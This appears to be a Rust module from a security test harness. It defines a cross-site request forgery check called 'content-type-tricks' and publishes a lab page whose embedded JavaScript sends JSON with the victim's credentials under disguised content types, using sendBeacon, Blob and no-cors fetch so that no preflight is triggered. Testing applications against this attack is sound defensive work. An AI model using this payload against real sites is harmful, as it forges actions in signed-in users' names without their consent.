//! JSON that does not look like JSON.

use serde_json::json;

use super::victim::{NEW, Victim, actions};

use crate::attack::{
    places::EVIL,
    plan::{Attack, Expected, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "content-type-tricks",
    title: "JSON that does not look like JSON",
    has: "a page at another site, which the victim visits while signed in",
    does: "sends JSON as text, as a form, as a Blob and as a beacon, none of which browsers ask leave for",
    gains: "a change that the victim did not want, made as if it were the victim's own",
    source: "CVE-2025-47910; Fetch standard, section 2.2.2; F019",
    expected: Expected::EVERYWHERE.not_careless_jwt("another site's page cannot send a token along"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let victim = Victim::new(stage).await?;
    let html = format!(
        "<script>const body = JSON.stringify({{ everywhere: true, new: '{NEW}' }}), sent = []; \
         const how = {{ method: 'POST', mode: 'no-cors', credentials: 'include' }}; \
         const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', \
         'text/plain; application/json']; \
         for (const to of {}) {{ navigator.sendBeacon(to, body); sent.push(fetch(to, {{ ...how, body: new Blob([body]) }})); \
         for (const type of types) sent.push(fetch(to, {{ ...how, body, headers: {{ 'content-type': type }} }})); }} \
         Promise.allSettled(sent).then(() => document.title = 'done')</script>",
        json!(actions(stage))
    );
    victim.stays_at(&stage.lab.places.publish(EVIL, html)).await?;
    victim.found(stage, "JSON in disguise").await
}
